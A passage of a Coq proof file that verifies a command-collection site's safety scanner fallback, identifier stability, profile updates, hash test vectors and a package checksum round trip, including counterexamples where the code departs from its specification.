Lemma Qle_bool_inject_Z (a b : Z) : Qle_bool (inject_Z a) (inject_Z b) = (a <=? b).
Proof. unfold Qle_bool. simpl. now rewrite !Z.mul_1_r. Qed.

Lemma countSeverity_zero (sev : string) (issues : list Issue) :
  countSeverity sev issues = 0%nat <-> forall i, In i issues -> severity i <> sev.
Proof.
  unfold countSeverity. induction issues as [|x l IH]; simpl.
  - split; [intros _ i []|reflexivity].
  - destruct (String.eqb (severity x) sev) eqn:E; simpl.
    + apply String.eqb_eq in E. split; [discriminate|].
      intros H. exfalso. exact (H x (or_introl eq_refl) E).
    + apply String.eqb_neq in E. rewrite IH. split.
      * intros H i [<-|Hi]; auto.
      * intros H i Hi. apply H. now right.
Qed.

Lemma criticalFindings_nonneg reports : 0 <= criticalFindings reports.
Proof. induction reports as [|c l IH]; simpl; lia. Qed.

Lemma criticalFindings_app l1 l2 :
  criticalFindings (l1 ++ l2) = criticalFindings l1 + criticalFindings l2.
Proof. induction l1 as [|c l IH]; simpl; lia. Qed.

Lemma criticalFindings_zero reports :
  criticalFindings reports = 0 <-> zeroCritical reports.
Proof.
  unfold zeroCritical. induction reports as [|c l IH]; simpl.
  - split; [intros _ c i []|reflexivity].
  - pose proof (criticalFindings_nonneg l) as Hl. split.
    + intros H c' i [<-|Hc] Hi.
      * assert (Hz : countSeverity "CRITICAL" (c_issues c) = 0%nat) by lia.
        exact (proj1 (countSeverity_zero _ _) Hz i Hi).
      * assert (Hz : criticalFindings l = 0) by lia.
        exact (proj1 IH Hz c' i Hc Hi).
    + intros H.
      assert (H1 : countSeverity "CRITICAL" (c_issues c) = 0%nat).
      { apply countSeverity_zero. intros i Hi. apply (H c i); auto. }
      assert (H2 : criticalFindings l = 0).
      { apply IH. intros c' i Hc Hi. apply (H c' i); auto. }
      lia.
Qed.

(** The counting loop over the issues of one command report. *)
Lemma fold_countIssue issues report :
  let r := fold_left countIssue issues report in
  commandReports r = commandReports report /\
  criticalIssues r
  = criticalIssues report + Z.of_nat (countSeverity "CRITICAL" issues).
Proof.
  revert report. induction issues as [|i l IH]; intros report; simpl.
  - split; [reflexivity|]. unfold countSeverity. simpl. lia.
  - destruct (IH (countIssue report i)) as [Hc Hn]. simpl in Hc, Hn.
    rewrite Hc, Hn. split; [reflexivity|].
    unfold countSeverity. simpl.
    destruct (String.eqb (severity i) "CRITICAL"); simpl; lia.
Qed.

(** For one command the rule-based analysis approves exactly when the
    score of the command is at least 75 and it has no CRITICAL finding. *)
Lemma simulateAIAnalysis_autoApprove command index code :
  let c := simulateAIAnalysis regexMatches command index code in
  c_autoApprove c = true <->
  (75 <= c_safetyScore c)%Q /\
  (forall i, In i (c_issues c) -> severity i <> "CRITICAL").
Proof.
  cbv zeta. unfold simulateAIAnalysis.
  cbn [c_autoApprove c_safetyScore c_issues].
  rewrite andb_true_iff, Nat.eqb_eq, countSeverity_zero.
  rewrite <- (Qle_bool_inject_Z 75), Qle_bool_iff. reflexivity.
Qed.

(** When the inference service gives no answer (no token, a network error,
    a time-out, an answer that cannot be parsed), every command report comes
    from the rule-based path. *)
Variable this : AISafetyChecker.
Hypothesis unavailable :
  forall command code, exists e,
    callGitHubModelsAPI inference this command code = Throw e.

Lemma analyzeCommand_fallback command index :
  exists c,
    analyzeCommand regexMatches inference this command index = Ok c /\
    fallbackShape c.
Proof.
  unfold analyzeCommand, fallbackShape.
  destruct (code command) as [[|ch rest]|].
  - eexists. split; [reflexivity|]. reflexivity.
  - match goal with
    | |- context [callGitHubModelsAPI inference this command ?text] =>
        destruct (unavailable command text) as [e He]; rewrite He
    end.
    cbn [bind try_catch]. eexists. split; [reflexivity|].
    unfold simulateAIAnalysis. cbn [c_autoApprove c_safetyScore c_issues].
    now rewrite (Qle_bool_inject_Z 75).
  - eexists. split; [reflexivity|]. reflexivity.
Qed.

Lemma checkCommands_fallback commands : forall i report,
  let r := checkCommands regexMatches inference this i commands report in
  exists new,
    commandReports r = (commandReports report ++ new)%list /\
    Forall fallbackShape new /\
    List.length new = List.length commands /\
    criticalIssues r = criticalIssues report + criticalFindings new.
Proof.
  induction commands as [|command rest IH]; intros i report; simpl.
  - exists []. rewrite app_nil_r. simpl. repeat split; auto. lia.
  - destruct (analyzeCommand_fallback command i) as (c & -> & Hshape).
    destruct (fold_countIssue (c_issues c) (pushCommandReport report c)) as [Hc Hn].
    simpl in Hc, Hn.
    destruct (IH (S i) (fold_left countIssue (c_issues c) (pushCommandReport report c)))
      as (new & Hr & Hf & Hl & Hk).
    simpl in Hr, Hk. exists (c :: new). repeat split.
    + rewrite Hr, Hc. unfold push. rewrite <- app_assoc. reflexivity.
    + constructor; assumption.
    + simpl. now rewrite Hl.
    + rewrite Hk, Hn. simpl. lia.
Qed.

(** What [calculateOverallScores] writes into [autoApprove], for any
    report with at least one command report. *)
Lemma calculateOverallScores_autoApprove report :
  commandReports report <> [] ->
  let r := calculateOverallScores report in
  commandReports r = commandReports report /\
  (autoApprove r = true <->
     75 <= safetyScore r /\ criticalIssues report = 0 /\
     forall c, In c (commandReports report) -> c_autoApprove c = true).
Proof.
  intros Hne. unfold calculateOverallScores.
  destruct (commandReports report) as [|c0 l] eqn:E; [congruence|].
  cbn [List.length Nat.eqb commandReports autoApprove safetyScore].
  split; [reflexivity|].
  rewrite !andb_true_iff, Z.leb_le, Z.eqb_eq, forallb_forall. tauto.
Qed.

(** C9, as the code has it.  For the rule-based fallback scanner (the
    inference service gives no answer), the collection report is
    auto-approvable if and only if the collection score is at least 75, no
    finding is CRITICAL, and every command's own score is at least 75. *)
Theorem fallback_autoApproveHint commands report :
  performSafetyCheck regexMatches inference this commands = Ok report ->
  (autoApprove report = true <->
     75 <= safetyScore report /\
     zeroCritical (commandReports report) /\
     (forall c, In c (commandReports report) -> (75 <= c_safetyScore c)%Q)).
Proof.
  unfold performSafetyCheck.
  destruct (List.length commands =? 0)%nat eqn:El; [discriminate|].
  apply Nat.eqb_neq in El.
  set (init := {| safetyScore := 100; riskLevel := "LOW"; overallSummary := "";
                  autoApprove := false; commandReports := []; totalIssues := 0;
                  criticalIssues := 0; highIssues := 0; mediumIssues := 0;
                  lowIssues := 0 |}).
  destruct (checkCommands_fallback commands 0%nat init)
    as (new & Hr & Hshape & Hlen & Hcrit).
  cbn [commandReports criticalIssues init app] in Hr, Hcrit.
  set (looped := checkCommands regexMatches inference this 0 commands init) in *.
  intros [= <-].
  assert (Hne : commandReports looped <> []).
  { rewrite Hr. destruct new; [simpl in Hlen; congruence|discriminate]. }
  destruct (calculateOverallScores_autoApprove looped Hne) as [Hsame Hauto].
  cbv zeta in Hsame, Hauto. rewrite Hauto, Hsame, Hr, Hcrit. clear Hauto.
  rewrite Z.add_0_l, criticalFindings_zero.
  rewrite Forall_forall in Hshape. unfold fallbackShape in Hshape.
  split.
  - intros (Hs & Hz & Hall). repeat split; auto.
    intros c Hc. specialize (Hall c Hc). rewrite (Hshape c Hc) in Hall.
    apply andb_true_iff in Hall. now apply Qle_bool_iff.
  - intros (Hs & Hz & Hall). repeat split; auto.
    intros c Hc. rewrite (Hshape c Hc). apply andb_true_iff. split.
    + apply Qle_bool_iff. auto.
    + apply Nat.eqb_eq, countSeverity_zero. intros i Hi. exact (Hz c i Hc Hi).
Qed.

End RiskScanner.

Section RiskScannerExamples.
Import Js Scanner ScannerSpec.

(** The scan of the two sample commands: scores 100 and 60, mean 80, one
    HIGH and one MEDIUM finding, nothing CRITICAL. *)
Example sample_scan_scores :
  match performSafetyCheck sampleMatches noInference (constructor None)
          sampleCommands with
  | Ok r => (safetyScore r, criticalIssues r, autoApprove r,
             map (fun c => Qle_bool 75 (c_safetyScore c)) (commandReports r))
  | Throw _ => (0, 0, false, [])
  end = (80, 0, false, [true; false]).
Proof. vm_compute. reflexivity. Qed.

(** C9 as the specification words it does not hold: a collection score of
    80 and no CRITICAL finding, yet no auto-approval, because the second
    command scores 60. *)
Lemma autoApproveHint_counterexample :
  exists report,
    performSafetyCheck sampleMatches noInference (constructor None) sampleCommands
    = Ok report /\
    ~ (autoApprove report = true <->
       75 <= safetyScore report /\ zeroCritical (commandReports report)).
Proof.
  destruct (performSafetyCheck sampleMatches noInference (constructor None)
              sampleCommands) as [r|e] eqn:E; [|vm_compute in E; discriminate E].
  exists r. split; [reflexivity|].
  vm_compute in E. injection E as <-.
  intros [_ H].
  assert (Hf : false = true); [|discriminate Hf].
  apply H. split; [cbn; lia|].
  intros c i Hc Hi.
  cbn [commandReports] in Hc.
  destruct Hc as [<-|[<-|[]]]; cbn [c_issues] in Hi.
  - destruct Hi.
  - destruct Hi as [<-|[<-|[]]]; cbn [severity]; discriminate.
Qed.

Lemma fallback_autoApproveHint_witness :
  exists report,
    performSafetyCheck sampleMatches noInference (constructor None) sampleCommands
    = Ok report /\
    (autoApprove report = true <->
       75 <= safetyScore report /\
       zeroCritical (commandReports report) /\
       (forall c, In c (commandReports report) -> (75 <= c_safetyScore c)%Q)).
Proof.
  destruct (performSafetyCheck sampleMatches noInference (constructor None)
              sampleCommands) as [r|e] eqn:E; [|vm_compute in E; discriminate E].
  exists r. split; [reflexivity|].
  refine (fallback_autoApproveHint sampleMatches noInference (constructor None) _
            sampleCommands r E).
  intros command code. eexists. reflexivity.
Defined.

End RiskScannerExamples.

(** ** The collection materializer *)

Section Materializer.
Import Js Json Parser Organizer MaterializerSpec.

(** *** Identifiers *)

Lemma generateCollectionId_identity d d' :
  sameIdentity d d' -> generateCollectionId d = generateCollectionId d'.
Proof.
  intros (Hn & Hs & Hi). unfold generateCollectionId, collectionIdData.
  now rewrite Hn, Hs, Hi.
Qed.

Lemma generateCommandId_parts c c' i i' :
  commandNamePart c i = commandNamePart c' i' ->
  commandCodePart c = commandCodePart c' ->
  generateCommandId c i = generateCommandId c' i'.
Proof. intros Hn Hc. unfold generateCommandId. now rewrite Hn, Hc. Qed.

Lemma commandNamePart_named c i i' :
  named c -> commandNamePart c i = commandNamePart c i'.
Proof.
  intros (v & Hv & Ht). unfold commandNamePart. rewrite Hv. cbn [bind].
  now rewrite Ht.
Qed.

(** The outcome of a command entry does not depend on the clock, and its
    identifier is the one of [generateCommandId]. *)
Lemma commandEntry_id d t command index e :
  commandEntry d t command index = Ok e ->
  generateCommandId command index = Ok (cmd_id e) /\
  forall t', exists e', commandEntry d t' command index = Ok e' /\ cmd_id e' = cmd_id e.
Proof.
  unfold commandEntry, bind.
  destruct (generateCommandId command index) as [cid|]; [|discriminate].
  destruct (getProp command "name"); [|discriminate].
  destruct (getProp command "description"); [|discriminate].
  destruct (getProp command "category"); [|discriminate].
  destruct (getProp command "code"); [|discriminate].
  destruct (getProp command "icon"); [|discriminate].
  destruct (getProp command "tags"); [|discriminate].
  destruct (getProp command "author"); [|discriminate].
  intros [= <-]. split; [reflexivity|].
  intros t'. eexists. split; reflexivity.
Qed.

Lemma mapIndexed_entries d t commands : forall index entries,
  mapIndexed (commandEntry d t) index commands = Ok entries ->
  forall t', exists entries',
    mapIndexed (commandEntry d t') index commands = Ok entries' /\
    map cmd_id entries' = map cmd_id entries.
Proof.
  induction commands as [|c rest IH]; intros index entries; simpl.
  - intros [= <-] t'. exists []. auto.
  - unfold bind at 1.
    destruct (commandEntry d t c index) as [e|] eqn:He; [|discriminate].
    unfold bind at 1.
    destruct (mapIndexed (commandEntry d t) (S index) rest) as [es|] eqn:Hes;
      [|discriminate].
    intros [= <-] t'.
    destruct (proj2 (commandEntry_id _ _ _ _ _ He) t') as (e' & He' & Hid).
    destruct (IH _ _ Hes t') as (es' & Hes' & Hids).
    exists (e' :: es'). rewrite He'. cbn [bind]. rewrite Hes'. cbn [bind].
    split; [reflexivity|]. simpl. now rewrite Hid, Hids.
Qed.

(** The default of [a || b] is a string: whether the conversion throws
    does not depend on it. *)
Lemma render_orValue_default (o : option json) (s s' shown : string) :
  render (orValue o (JStr s)) = Ok shown ->
  exists shown', render (orValue o (JStr s')) = Ok shown'.
Proof.
  unfold orValue. destruct o as [v|]; [destruct (truthyValue (Some v))|];
    cbn [render]; eauto.
Qed.


Lemma generateCommandFileContent_total command m m' commandId text :
  generateCommandFileContent command m commandId = Ok text ->
  exists text', generateCommandFileContent command m' commandId = Ok text'.
Proof.
  unfold generateCommandFileContent, bind.
  destruct (getProp command "name") as [cname|]; [|discriminate].
  destruct (getProp command "description") as [cdescription|]; [|discriminate].
  destruct (getProp command "category") as [ccategory|]; [|discriminate].
  destruct (getProp command "author") as [cauthor|]; [|discriminate].
  destruct (getProp command "version") as [cversion|]; [|discriminate].
  destruct (getProp command "code") as [ccode|]; [|discriminate].
  destruct (renderOpt cname); [|discriminate].
  destruct (render (orValue cdescription _)); [|discriminate].
  destruct (render (orValue ccategory (JStr (category m)))) as [shown|] eqn:Ec;
    [|discriminate].
  destruct (render_orValue_default ccategory (category m) (category m') shown Ec)
    as [shown' ->].
  assert (Ha : forall s, (if truthyValue cauthor then renderOpt cauthor
                          else Ok (renderString (author m))) = Ok s ->
               exists s', (if truthyValue cauthor then renderOpt cauthor
                           else Ok (renderString (author m'))) = Ok s').
  { intros s. destruct (truthyValue cauthor); eauto. }
  destruct (if truthyValue cauthor then renderOpt cauthor
            else Ok (renderString (author m))) as [shownAuthor|] eqn:Ea;
    [|discriminate].
  destruct (Ha _ eq_refl) as [shownAuthor' ->].
  destruct (render (orValue cversion _)); [|discriminate].
  destruct (render (orValue ccode _)); [|discriminate].
  intros _. eexists. reflexivity.
Qed.

Lemma commandFile_id m dir m' dir' command index f :
  commandFile m dir command index = Ok f ->
  generateCommandId command index = Ok (file_id f) /\
  exists f', commandFile m' dir' command index = Ok f' /\ file_id f' = file_id f.
Proof.
  unfold commandFile. unfold bind at 1.
  destruct (generateCommandId command index) as [cid|]; [|discriminate].
  unfold bind at 1.
  destruct (getProp command "name") as [cname|]; [|discriminate].
  unfold bind at 1.
  match goal with
  | |- match ?X with Ok _ => _ | Throw _ => _ end = _ -> _ =>
      destruct X as [fname|] eqn:Hf; [|discriminate]
  end.
  unfold bind at 1.
  destruct (generateCommandFileContent command m cid) as [text|] eqn:Ht;
    [|discriminate].
  intros [= <-]. split; [reflexivity|].
  destruct (generateCommandFileContent_total _ _ m' _ _ Ht) as (text' & Ht').
  cbn [bind]. rewrite ?Hf. cbn [bind]. rewrite Ht'. cbn [bind file_id].
  eexists. split; reflexivity.
Qed.

Lemma mapIndexed_files m dir m' dir' commands : forall index files,
  mapIndexed (commandFile m dir) index commands = Ok files ->
  exists files',
    mapIndexed (commandFile m' dir') index commands = Ok files' /\
    map file_id files' = map file_id files.
Proof.
  induction commands as [|c rest IH]; intros index files; simpl.
  - intros [= <-]. exists []. auto.
  - unfold bind at 1.
    destruct (commandFile m dir c index) as [f|] eqn:Hf; [|discriminate].
    unfold bind at 1.
    destruct (mapIndexed (commandFile m dir) (S index) rest) as [fs|] eqn:Hfs;
      [|discriminate].
    intros [= <-].
    destruct (proj2 (commandFile_id _ _ m' dir' _ _ _ Hf)) as (f' & Hf' & Hid).
    destruct (IH _ _ Hfs) as (fs' & Hfs' & Hids).
    exists (f' :: fs'). rewrite Hf'. cbn [bind]. rewrite Hfs'. cbn [bind].
    split; [reflexivity|]. simpl. now rewrite Hid, Hids.
Qed.

(** Materializing the same document again, at another time and even into
    other directories, succeeds again and gives the same identifiers. *)
Lemma generateCollectionFiles_again d dir1 dir2 now info :
  generateCollectionFiles d dir1 dir2 now = Ok info ->
  forall dir1' dir2' now', exists info',
    generateCollectionFiles d dir1' dir2' now' = Ok info' /\
    collectionId info' = collectionId info /\
    id (collectionMetadata (collectionData info'))
    = id (collectionMetadata (collectionData info)) /\
    map cmd_id (commands (collectionData info'))
    = map cmd_id (commands (collectionData info)) /\
    map file_id (commandFiles info') = map file_id (commandFiles info).
Proof.
  unfold generateCollectionFiles. cbv zeta. unfold bind at 1.
  destruct (mapIndexed (commandEntry d now) 0 (Parser.commands d)) as [es|] eqn:He;
    [|discriminate].
  unfold bind at 1.
  match goal with
  | |- match mapIndexed (commandFile ?m ?dir) 0 _ with _ => _ end = _ -> _ =>
      destruct (mapIndexed (commandFile m dir) 0 (Parser.commands d)) as [fs|] eqn:Hf;
      [|discriminate]
  end.
  intros [= <-] dir1' dir2' now'.
  destruct (mapIndexed_entries _ _ _ _ _ He now') as (es' & He' & Hes).
  rewrite He'. cbn [bind].
  match goal with
  | |- context [mapIndexed (commandFile ?m' ?dir') 0 _] =>
      destruct (mapIndexed_files _ _ m' dir' _ _ _ Hf) as (fs' & Hf' & Hfs);
      rewrite Hf'
  end.
  cbn [bind]. eexists. split; [reflexivity|].
  cbn [collectionId collectionData collectionMetadata id commands commandFiles].
  auto.
Qed.

(** C3, as the code has it.  The collection identifier is a function of
    the collection name, the submitter and the issue number.  A command
    identifier is a function of the name part and of the first 100
    characters of the code; the name part is the command name, and for a
    command without a name its position in the list, [cmd-<index>].
    Materializing an unchanged submission again therefore succeeds again
    with the same collection identifier and the same command identifiers. *)
Theorem identifiers_stable :
  (forall d d', sameIdentity d d' -> generateCollectionId d = generateCollectionId d')
  /\ (forall c c' i i',
        commandNamePart c i = commandNamePart c' i' ->
        commandCodePart c = commandCodePart c' ->
        generateCommandId c i = generateCommandId c' i')
  /\ (forall c c' i i',
        named c -> sameNameAndCodePrefix c c' ->
        generateCommandId c i = generateCommandId c' i')
  /\ (forall d dir1 dir2 now info,
        generateCollectionFiles d dir1 dir2 now = Ok info ->
        forall dir1' dir2' now', exists info',
          generateCollectionFiles d dir1' dir2' now' = Ok info' /\
          collectionId info' = collectionId info /\
          id (collectionMetadata (collectionData info'))
          = id (collectionMetadata (collectionData info)) /\
          map cmd_id (commands (collectionData info'))
          = map cmd_id (commands (collectionData info)) /\
          map file_id (commandFiles info') = map file_id (commandFiles info)).
Proof.
  split; [exact generateCollectionId_identity|].
  split; [exact generateCommandId_parts|].
  split; [|exact generateCollectionFiles_again].
  intros c c' i i' Hnamed [Hname Hcode].
  apply generateCommandId_parts; [|exact Hcode].
  assert (Hnamed' : named c').
  { destruct Hnamed as (v & Hv & Ht). exists v. now rewrite <- Hname. }
  rewrite (commandNamePart_named c i i' Hnamed).
  unfold commandNamePart. now rewrite Hname.
Qed.

(** *** Badges *)







(** [awardBadges] writes the badge list and nothing else. *)
Lemma awardBadges_frame profile now :
  let p' := awardBadges profile now in
  username p' = username profile /\
  displayName p' = displayName profile /\
  joinedAt p' = joinedAt profile /\
  collections p' = collections profile /\
  profile_stats p' = profile_stats profile /\
  bio p' = bio profile /\
  website p' = website profile /\
  social p' = social profile.
Proof. cbv zeta. unfold awardBadges. cbn. tauto. Qed.

Lemma updateUserProfile_keeps p d info now :
  let p' := updateUserProfile (Stored p) d info now in
  username p' = username p /\
  displayName p' = displayName p /\
  joinedAt p' = joinedAt p /\
  bio p' = bio p /\
  website p' = website p /\
  social p' = social p.
Proof.
  cbv zeta. unfold updateUserProfile.
  match goal with
  | |- context [awardBadges ?q now] =>
      destruct (awardBadges_frame q now) as (H1 & H2 & H3 & _ & _ & H6 & H7 & H8)
  end.
  cbv zeta in *. rewrite H1, H2, H3, H6, H7, H8. cbn. tauto.
Qed.

(** C10.  Updating an existing profile leaves its username, display name,
    join date, biography, website and social links exactly as they were; so
    do the two statistics that are not recomputed.  Only the collection
    list, the two recomputed statistics and the badge list are written. *)
Theorem updateUserProfile_frame p d info now :
  let p' := updateUserProfile (Stored p) d info now in
  username p' = username p /\
  displayName p' = displayName p /\
  joinedAt p' = joinedAt p /\
  bio p' = bio p /\
  website p' = website p /\
  social p' = social p /\
  totalDownloads (profile_stats p') = totalDownloads (profile_stats p) /\
  avgRating (profile_stats p') = avgRating (profile_stats p).
Proof.
  destruct (updateUserProfile_keeps p d info now) as (H1 & H2 & H3 & H4 & H5 & H6).
  cbv zeta in *. repeat split; try assumption.
Qed.

(** The same through a whole run of the script. *)
Lemma organizeCollection_frame store d base now store' out p :
  organizeCollection store d base now = Ok (store', out) ->
  store (profilePath (userDir out)) = Stored p ->
  exists p', store' (profilePath (userDir out)) = Stored p' /\
    username p' = username p /\ displayName p' = displayName p /\
    joinedAt p' = joinedAt p /\ bio p' = bio p /\ website p' = website p /\
    social p' = social p.
Proof.
  unfold organizeCollection.
  destruct (isEmpty (contactInfo d)); [discriminate|].
  unfold bind. destruct (generateCollectionFiles _ _ _ _) as [info|]; [|discriminate].
  intros [= <- <-] Hp. cbn [userDir] in *.
  unfold writeProfile. rewrite String.eqb_refl, Hp.
  eexists. split; [reflexivity|].
  exact (updateUserProfile_keeps p d info now).
Qed.

End Materializer.

Section MaterializerExamples.
Import Js Json Parser Organizer MaterializerSpec.

(** C3 as the specification words it does not hold for commands without a
    name: the same (missing) name and the same code, yet two identifiers,
    because the position in the list is hashed in place of the name. *)
Lemma commandId_counterexample :
  sameNameAndCodePrefix namelessCommand namelessCommand /\
  generateCommandId namelessCommand 0 <> generateCommandId namelessCommand 1.
Proof.
  split; [split; reflexivity|].
  vm_compute. discriminate.
Qed.

Example nameless_ids :
  generateCommandId namelessCommand 0 = Ok "75c9ab60" /\
  generateCommandId namelessCommand 1 = Ok "d36f29dc".
Proof. vm_compute. split; reflexivity. Qed.

Lemma identifiers_stable_witness :
  exists info info',
    generateCollectionFiles (sampleSubmission oneCommand) "collections/octocat/collections"
      "collections/octocat/commands" "2025-01-02T00:00:00Z" = Ok info /\
    generateCollectionFiles (sampleSubmission oneCommand) "collections/octocat/collections"
      "collections/octocat/commands" "2025-03-04T05:06:07Z" = Ok info' /\
    collectionId info' = collectionId info /\
    map cmd_id (commands (collectionData info'))
    = map cmd_id (commands (collectionData info)).
Proof.
  destruct (generateCollectionFiles (sampleSubmission oneCommand)
              "collections/octocat/collections" "collections/octocat/commands"
              "2025-01-02T00:00:00Z") as [info|e] eqn:E;
    [|vm_compute in E; discriminate E].
  destruct (proj2 (proj2 (proj2 identifiers_stable)) _ _ _ _ _ E
              "collections/octocat/collections" "collections/octocat/commands"
              "2025-03-04T05:06:07Z") as (info' & E' & Hc & _ & Hids & _).
  exists info, info'. auto.
Defined.


(** Resubmitting the issue with one command instead of twenty brings the
    command total from 20 down to 1; the Command Master badge stays. *)
Example badge_survives_regression :
  match storeAfterTwenty "collections/octocat/profile.json",
        materialize "collections" storeAfterTwenty
          (sampleSubmission oneCommand, "2025-02-01T00:00:00Z")
          "collections/octocat/profile.json" with
  | Stored p, Stored p' =>
      (profile_totalCommands (profile_stats p), map badge_id (badges p),
       profile_totalCommands (profile_stats p'), map badge_id (badges p'),
       List.length (collections p'))
  | _, _ => (0, [], 0, [], 0%nat)
  end
  = (20, ["first-collection"; "command-master"],
     1, ["first-collection"; "command-master"], 1%nat).
Proof. vm_compute. reflexivity. Qed.

End MaterializerExamples.

(** ** The digests *)

Section Digests.
Import Crypto.

Example md5_of_empty : md5hex "" = "d41d8cd98f00b204e9800998ecf8427e".
Proof. vm_compute. reflexivity. Qed.

Example md5_of_abc : md5hex "abc" = "900150983cd24fb0d6963f7d28e17f72".
Proof. vm_compute. reflexivity. Qed.

Example md5_of_two_blocks :
  md5hex "12345678901234567890123456789012345678901234567890123456789012345678901234567890"
  = "57edf4a22be3c955ac49da2e2107b67a".
Proof. vm_compute. reflexivity. Qed.

Example sha256_of_empty :
  sha256hex "" = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".
Proof. vm_compute. reflexivity. Qed.

Example sha256_of_abc :
  sha256hex "abc" = "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad".
Proof. vm_compute. reflexivity. Qed.

Example sha256_of_two_blocks :
  sha256hex "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq"
  = "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1".
Proof. vm_compute. reflexivity. Qed.

Lemma sha256_round_length w st i :
  List.length st = 8%nat -> List.length (sha256_round w st i) = 8%nat.
Proof.
  intros H.
  destruct st as [|a [|b [|c [|d [|e [|f [|g [|h [|x st]]]]]]]]]; try discriminate H.
  reflexivity.
Qed.

Lemma sha256_rounds_length w l : forall st,
  List.length st = 8%nat ->
  List.length (fold_left (sha256_round w) l st) = 8%nat.
Proof.
  induction l as [|i l IH]; intros st H; simpl; [exact H|].
  apply IH. now apply sha256_round_length.
Qed.

Lemma sha256_block_length st block :
  List.length st = 8%nat -> List.length (sha256_block st block) = 8%nat.
Proof.
  intros H. unfold sha256_block.
  rewrite length_map, length_combine, sha256_rounds_length, H by exact H.
  reflexivity.
Qed.

Lemma sha256_blocks_length count : forall bytes st,
  List.length st = 8%nat -> List.length (sha256_blocks count bytes st) = 8%nat.
Proof.
  induction count as [|n IH]; intros bytes st H; cbn [sha256_blocks]; [exact H|].
  apply IH. now apply sha256_block_length.
Qed.

(** A SHA-256 digest in hexadecimal is never the empty string. *)
Lemma sha256hex_nonempty (text : string) :
  exists c r, sha256hex text = String c r.
Proof.
  unfold sha256hex, sha256.
  set (padded := (padTo56 (bytesOf text) ++ bigEndian 8 (bitLength (bytesOf text)))%list).
  pose proof (sha256_blocks_length (List.length padded / 64) padded sha256_init eq_refl)
    as Hlen.
  destruct (sha256_blocks (List.length padded / 64) padded sha256_init) as [|x l];
    [discriminate Hlen|].
  cbn [flat_map]. unfold bigEndian at 1, littleEndian at 1.
  cbn [seq map rev app hexOf]. unfold hexOf. cbn [map String.concat app].
  destruct (map hexByte _) as [|y ys]; unfold hexByte; cbn [append]; eauto.
Qed.

End Digests.

(** ** The package manager *)

Section PackageRoundTrip.
Import Js Json Crypto Packages PackagesSpec.

(** What [createPackage] stores: the sanitized commands, next to a
    checksum of the commands as they were handed in. *)
Lemma createPackage_contents commands packageInfo now pkg :
  createPackage constructor commands packageInfo now = Ok pkg ->
  exists sanitized,
    mapResult (sanitizeCommand now) commands = Ok sanitized /\
    getProp pkg "version" = Ok (Some (JStr "1.0.0")) /\
    getProp pkg "commands" = Ok (Some (JArr sanitized)) /\
    getProp pkg "checksum" = Ok (Some (JStr (generateChecksum commands))).
Proof.
  unfold createPackage, bind.
  destruct (getProp packageInfo "name"); [|discriminate].
  destruct (getProp packageInfo "description"); [|discriminate].
  destruct (getProp packageInfo "author"); [|discriminate].
  destruct (getProp packageInfo "category"); [|discriminate].
  destruct (getProp packageInfo "tags"); [|discriminate].
  destruct (mapResult (sanitizeCommand now) commands) as [sanitized|]; [|discriminate].
  intros [= <-]. exists sanitized. repeat split.
Qed.

(** [validatePackage] accepts a created package only when the digest of
    the sanitized commands happens to equal the digest of the commands
    handed to [createPackage]. *)
Lemma validatePackage_created commands packageInfo now pkg :
  createPackage constructor commands packageInfo now = Ok pkg ->
  validatePackage pkg = Ok tt ->
  exists sanitized,
    mapResult (sanitizeCommand now) commands = Ok sanitized /\
    generateChecksum sanitized = generateChecksum commands.
Proof.
  intros Hc Hv.
  destruct (createPackage_contents _ _ _ _ Hc) as (sanitized & Hs & Hver & Hcmd & Hsum).
  exists sanitized. split; [exact Hs|].
  unfold validatePackage in Hv. rewrite Hver, Hcmd in Hv. cbn [bind] in Hv.
  cbn [truthyValue isEmpty negb isArray orb elements] in Hv.
  destruct (List.length sanitized =? 0)%nat; [discriminate|].
  destruct (validateCommands 0 sanitized) as [[]|]; cbn [bind] in Hv; [|discriminate].
  rewrite Hsum in Hv. cbn [bind] in Hv.
  destruct (truthyValue (Some (JStr (generateChecksum commands)))) eqn:Et.
  - destruct (String.eqb (generateChecksum sanitized) (generateChecksum commands)) eqn:E;
      [|discriminate].
    now apply String.eqb_eq.
  - exfalso. cbn [truthyValue] in Et. apply negb_false_iff in Et.
    destruct (sha256hex_nonempty (stringify (JArr commands))) as (c & r & Hr).
    unfold generateChecksum in Et. rewrite Hr in Et. discriminate Et.
Qed.

(** C7, on the code.  A package created from one command of the [create]
    sub-command and written with [exportPackage] is refused by
    [importPackage], in either format, with the checksum error: the
    checksum stored at creation is taken over the commands as handed in,
    the checksum computed at import over the commands as stored. *)
Theorem export_then_import_rejected :
  (exists pkg path files,
      createPackage constructor [cliCommand] cliPackageInfo "2025-01-02T00:00:00.000Z"
      = Ok pkg /\
      exportPackage noFiles pkg "dist/package" "json" 1735776000000 = Ok (path, files) /\
      files path = Document pkg /\
      importPackage files path
      = Throw "Invalid package file: Package checksum mismatch - data may be corrupted")
  /\ exportThenImport "json"
     = Throw "Invalid package file: Package checksum mismatch - data may be corrupted"
  /\ exportThenImport "levelup"
     = Throw "Invalid package file: Package checksum mismatch - data may be corrupted".
Proof.
  split; [|split; vm_compute; reflexivity].
  destruct (createPackage constructor [cliCommand] cliPackageInfo
              "2025-01-02T00:00:00.000Z") as [pkg|e] eqn:Hc;
    [|vm_compute in Hc; discriminate Hc].
  exists pkg, "dist/package.json", (writeFile noFiles "dist/package.json" pkg).
  split; [reflexivity|]. split; [reflexivity|].
  split; [unfold writeFile; now rewrite String.eqb_refl|].
  unfold importPackage, writeFile. rewrite String.eqb_refl.
  vm_compute in Hc. injection Hc as <-. vm_compute. reflexivity.
Qed.

(** The two digests that the round trip compares, for the sample. *)
Example sample_checksums :
  match mapResult (sanitizeCommand "2025-01-02T00:00:00.000Z") [cliCommand] with
  | Ok sanitized =>
      String.eqb (generateChecksum sanitized) (generateChecksum [cliCommand])
  | Throw _ => true
  end = false.
Proof. vm_compute. reflexivity. Qed.

(** Without the stored checksum the same file is accepted: the commands
    and the metadata themselves survive the round trip. *)
Example import_without_checksum :
  match createPackage constructor [cliCommand] cliPackageInfo
          "2025-01-02T00:00:00.000Z" with
  | Ok (JObj [v; i; c; _]) =>
      importPackage (writeFile noFiles "p.json" (JObj [v; i; c])) "p.json"
      = Ok (JObj [v; i; c])
  | _ => False
  end.
Proof. vm_compute. reflexivity. Qed.

